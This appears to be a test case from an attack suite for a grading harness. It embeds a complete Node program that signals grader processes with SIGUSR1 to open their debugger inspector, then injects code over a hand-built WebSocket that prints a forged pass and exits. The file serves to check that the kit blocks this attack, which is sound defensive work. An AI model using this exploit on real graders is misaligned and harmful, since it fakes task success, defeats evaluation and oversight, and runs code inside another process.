/** A program that cannot serve, and runs its own code in the grader. */

import { DONE, type Attempt } from '../framework/attack.js';
import { OUT } from '../framework/place.js';

/** Node opens an inspector at SIGUSR1. It speaks over a WebSocket, one text of JSON a frame. */
const PROGRAM = String.raw`
import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { request } from 'node:http';
import { setTimeout as pause } from 'node:timers/promises';

const CODE = 'process.stdout.write("1 passed: REWRITTEN\\n"); process.exit(0)';

function graders() {
  return readdirSync('/proc').filter((pid) => {
    try {
      return /cli\.js/.test(readFileSync('/proc/' + pid + '/cmdline', 'latin1'));
    } catch {
      return false;
    }
  });
}

function frame(text) {
  const mask = randomBytes(4);
  const body = Buffer.from(text).map((byte, at) => byte ^ mask[at % 4]);
  return Buffer.concat([Buffer.from([0x81, 0xfe, body.length >> 8, body.length & 255]), mask, body]);
}

for (const pid of graders()) process.kill(Number(pid), 'SIGUSR1');
for (let n = 0; n < 20; n++) {
  await pause(50);
  try {
    const list = await (await fetch('http://127.0.0.1:9229/json')).json();
    const { pathname } = new URL(list[0].webSocketDebuggerUrl);
    const headers = { Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Version': 13, 'Sec-WebSocket-Key': randomBytes(16).toString('base64') };
    const asked = request({ host: '127.0.0.1', port: 9229, path: pathname, headers });
    asked.on('upgrade', (_, socket) => {
      const params = { expression: CODE + '/*' + ' '.repeat(200) + '*/' };
      socket.write(frame(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params })));
    });
    asked.end();
    break;
  } catch {}
}
await pause(1000);
console.log('${DONE}');
`;

export const inspector: Attempt = {
  files: { 'inspect.mjs': PROGRAM },
  run: { view: 'node inspect.mjs' },
  kit: { kind: 'command', words: ['test', 'mallory', '-s', 'view-first-primary', '-o', OUT] },
  sign: new RegExp(`${DONE}|REWRITTEN`),
  attacks: [
    {
      group: 'verdict: the inspector',
      name: 'opens-inspector',
      what: 'A program opens the inspector of the grader with SIGUSR1, and lets it print a pass.',
      harm: ({ output }) => (output.includes('REWRITTEN') ? 'it has passed' : undefined),
      stoppedBy: 'no program of the kit opens an inspector',
    },
  ],
};
